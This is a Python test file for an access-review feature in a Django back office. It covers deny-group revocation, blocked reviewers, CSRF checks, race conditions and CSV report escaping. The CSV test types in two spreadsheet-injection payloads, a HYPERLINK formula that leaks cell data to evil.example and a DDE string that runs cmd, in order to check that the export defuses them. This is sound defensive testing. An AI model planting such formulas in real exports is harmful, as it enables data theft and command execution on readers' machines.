"""Access reviews attacked as an outsider would (issue 24, part 1 review):
a hostile self-reviewer, a reviewer without rights, a careless owner, a
spreadsheet reading the report. Each test goes through the doors people
use (the test client, the worker's sweep)."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.audit import Actor
from accounts.delegation import user_permissions
from accounts.models import Membership, User
from reviews import services
from reviews.models import AccessReview
from tests.factories import GroupFactory, RoleFactory, RuleFactory, UserFactory
from tests.support.people import browser_of
from tests.support.reviews import start

pytestmark = pytest.mark.django_db

Review = AccessReview


def group_with(name, *rules):
    """A group whose one role has these (effect, pattern) rules."""
    role = RoleFactory(name=f"{name}-role")
    for effect, pattern in rules:
        RuleFactory(role=role, effect=effect, pattern=pattern)
    return GroupFactory(name=name, roles=[role])


def decide(client, item, decision="approve", justification="Still on the team"):
    return client.post(
        f"/reviews/items/{item.pk}/decide/",
        {"decision": decision, "justification": justification},
    )


def end_now(review):
    Review.objects.filter(pk=review.pk).update(ends_at=timezone.now() - timedelta(seconds=1))
    review.refresh_from_db()


@pytest.fixture
def restricted(db):
    """Eve: staff (every users right) held back by a deny group."""
    staff = group_with("staff", ("allow", "backoffice:users:*"))
    no_delete = group_with("no-delete", ("deny", "backoffice:users:delete"))
    eve = UserFactory(email="eve@shop.example", groups=[staff, no_delete])
    assert "backoffice:users:delete" not in user_permissions(eve.pk)
    return eve, no_delete


class TestRevokeNeverGives:
    """A reviewer decides without any right: "revoke" must only ever take
    away. Taking away a membership in a group whose rules deny would give
    its member what the deny held back."""

    def test_a_self_reviewer_cannot_lift_their_own_deny(self, root_user, restricted):
        eve, no_delete = restricted
        review = start(root_user, group=no_delete, auto_apply=True)
        item = review.items.get(user=eve)
        assert decide(browser_of(eve), item, "revoke", "I do not need it").status_code == 302
        end_now(review)
        services.reviews_sweep()
        item.refresh_from_db()
        assert item.outcome == "not_applied"
        assert "give" in item.outcome_reason
        assert Membership.objects.filter(user=eve, group=no_delete).exists()
        assert "backoffice:users:delete" not in user_permissions(eve.pk)

    def test_a_revoke_default_lifts_no_deny_when_applied_by_hand(self, root_user, restricted):
        eve, no_delete = restricted
        review = start(root_user, group=no_delete, default=Review.Default.REVOKE)
        end_now(review)
        services.reviews_sweep()
        assert browser_of(root_user).post(f"/reviews/{review.pk}/apply/").status_code == 302
        assert Membership.objects.filter(user=eve, group=no_delete).exists()
        assert review.items.get().outcome == "not_applied"

    def test_a_plain_group_is_still_revoked(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        ada = UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support, default=Review.Default.REVOKE)
        end_now(review)
        services.reviews_sweep()
        browser_of(root_user).post(f"/reviews/{review.pk}/apply/")
        assert review.items.get().outcome == "revoked"
        assert not Membership.objects.filter(user=ada).exists()


class TestReportForSpreadsheets:
    def test_typed_formulas_are_defused_and_the_json_reads_back(self, admin, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        # An address may start with = (RFC 5322 allows it in the local part).
        odd = UserFactory(email="=cmd@shop.example", groups=[support])
        ada = UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support, reviewer_mode="named", reviewers=[root_user])
        rc = browser_of(root_user)
        typed = {
            odd: '=HYPERLINK("http://evil.example/?"&A1,"x")',
            ada: '@SUM(1+1)*cmd|" /C calc"!A0\nsecond "line"',
        }
        for person, text in typed.items():
            assert decide(rc, review.items.get(user=person), "approve", text).status_code == 302
        text = admin.get(f"/reviews/{review.pk}/report.csv").content.decode()
        rows = list(csv.reader(io.StringIO(text)))
        for row in rows[1:]:
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
        assert any(cell == "'" + typed[odd] for row in rows for cell in row)
        data = json.loads(admin.get(f"/reviews/{review.pk}/report.json").content)
        got = {i["user"]: i["justification"] for i in data["items"]}
        # JSON is no spreadsheet: it keeps what was typed, exactly.
        assert got == {odd.email: typed[odd], ada.email: typed[ada]}

    def test_a_reviewer_without_the_view_right_reads_no_report(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        UserFactory(email="ada@shop.example", groups=[support])
        reviewer = UserFactory(email="rev@shop.example")
        review = start(root_user, group=support, reviewer_mode="named", reviewers=[reviewer])
        client = browser_of(reviewer)
        for path in ("report.csv", "report.json", ""):
            response = client.get(f"/reviews/{review.pk}/{path}")
            assert response.status_code in (302, 403, 404), path
            assert b"ada@shop.example" not in response.content


class TestLater:
    def test_a_blocked_reviewer_decides_nothing(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        UserFactory(email="ada@shop.example", groups=[support])
        reviewer = UserFactory(email="rev@shop.example")
        review = start(root_user, group=support, reviewer_mode="named", reviewers=[reviewer])
        client = browser_of(reviewer)
        User.objects.filter(pk=reviewer.pk).update(status=User.Status.BLOCKED)
        decide(client, review.items.get(), "revoke", "gone")
        assert review.items.get().decision == ""

    def test_an_owner_blocked_before_the_end_revokes_nothing(self, admin, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        ada = UserFactory(email="ada@shop.example", groups=[support])
        owner = UserFactory(email="owner@shop.example", groups=["root"])
        review = start(owner, group=support, default=Review.Default.REVOKE, auto_apply=True)
        User.objects.filter(pk=owner.pk).update(status=User.Status.BLOCKED)
        end_now(review)
        services.reviews_sweep()
        assert Membership.objects.filter(user=ada, group=support).exists()
        assert review.items.get().outcome == "not_applied"

    def test_a_group_deleted_mid_review_applies_cleanly(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support, default=Review.Default.REVOKE)
        support.delete()
        end_now(review)
        services.reviews_sweep()
        rc = browser_of(root_user)
        assert rc.post(f"/reviews/{review.pk}/apply/").status_code == 302
        assert review.items.get().outcome == "not_applied"
        assert rc.get(f"/reviews/{review.pk}/").status_code == 200
        assert rc.get(f"/reviews/{review.pk}/report.csv").status_code == 200

    def test_get_on_a_decision_changes_nothing(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        ada = UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support)
        item = review.items.get()
        response = browser_of(ada).get(
            f"/reviews/items/{item.pk}/decide/?decision=revoke&justification=x"
        )
        assert response.status_code == 405
        assert review.items.get().decision == ""


class TestGivenAgainSince:
    def test_a_membership_made_longer_since_the_start_is_not_revoked(self, root_user):
        """A longer membership is a new grant (four eyes treat it so): the
        reviewers judged the shorter one, not this."""
        from accounts.services.users import user_update

        support = group_with("support", ("allow", "backoffice:users:view"))
        ada = UserFactory(email="ada@shop.example")
        Membership.objects.create(
            user=ada, group=support, ends_at=timezone.now() + timedelta(days=20)
        )
        review = start(root_user, group=support, default=Review.Default.REVOKE)
        assert review.items.get().membership_kind == "time-bound"
        user_update(
            user=ada,
            email=None,
            first_name=None,
            last_name=None,
            groups=[support],
            active=None,
            ends={support.pk: None},
            by=Actor(user=root_user, channel="web"),
        )
        end_now(review)
        services.reviews_sweep()
        assert browser_of(root_user).post(f"/reviews/{review.pk}/apply/").status_code == 302
        assert Membership.objects.filter(user=ada, group=support, ends_at=None).exists()
        item = review.items.get()
        assert item.outcome == "not_applied" and "longer" in item.outcome_reason

    def test_a_membership_made_shorter_is_still_revoked(self, root_user):
        support = group_with("support", ("allow", "backoffice:users:view"))
        ada = UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support, default=Review.Default.REVOKE)
        Membership.objects.filter(user=ada).update(ends_at=timezone.now() + timedelta(days=3))
        end_now(review)
        services.reviews_sweep()
        browser_of(root_user).post(f"/reviews/{review.pk}/apply/")
        assert review.items.get().outcome == "revoked"
        assert not Membership.objects.filter(user=ada).exists()


class TestForgedRequests:
    def test_decide_stop_and_apply_need_the_csrf_token(self, root_user):
        from django.test import Client

        support = group_with("support", ("allow", "backoffice:users:view"))
        UserFactory(email="ada@shop.example", groups=[support])
        review = start(root_user, group=support, reviewer_mode="named", reviewers=[root_user])
        client = Client(enforce_csrf_checks=True)
        client.force_login(root_user)
        item = review.items.get()
        assert decide(client, item, "revoke", "forged").status_code == 403
        assert client.post(f"/reviews/{review.pk}/stop/").status_code == 403
        end_now(review)
        services.reviews_sweep()
        assert client.post(f"/reviews/{review.pk}/apply/").status_code == 403
        review.refresh_from_db()
        assert review.status == "ended" and review.items.get().decision == ""


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(
    __import__("django.db").db.connection.vendor != "postgresql",
    reason="races need a server database (CI runs it)",
)
def test_two_hands_and_a_worker_apply_each_item_once(seed_groups):
    """Apply pressed in two tabs while the worker resumes the same review:
    every membership is revoked once, and nothing crashes."""
    import threading

    from django.db import connections

    from accounts.audit import AuditAction
    from accounts.errors import AccountError
    from accounts.models import AuditEvent

    owner = UserFactory(email="owner@shop.example", groups=["root"])
    support = group_with("support", ("allow", "backoffice:users:view"))
    people = [
        UserFactory(email=f"p{n}@shop.example", groups=[support], last_login=None) for n in range(8)
    ]
    review = start(owner, group=support, default=Review.Default.REVOKE, auto_apply=True)
    Review.objects.filter(pk=review.pk).update(
        status=Review.Status.ENDED, ends_at=timezone.now() - timedelta(hours=1)
    )
    barrier, errors = threading.Barrier(3), []

    def by_hand():
        try:
            barrier.wait()
            services.review_apply(
                review=Review.objects.get(pk=review.pk), by=Actor(user=owner, channel="web")
            )
        except AccountError:
            pass  # "applied already": the other got there first
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    def worker():
        try:
            barrier.wait()
            for _ in range(20):
                services.reviews_sweep(now=timezone.now() + timedelta(hours=1))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=t) for t in (by_hand, by_hand, worker)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert errors == []
    assert not Membership.objects.filter(group=support).exists()
    assert sorted(review.items.values_list("outcome", flat=True)) == ["revoked"] * len(people)
    for person in people:
        events = AuditEvent.objects.filter(action=AuditAction.USER_UPDATED, target_id=person.pk)
        assert events.count() == 1, person.email
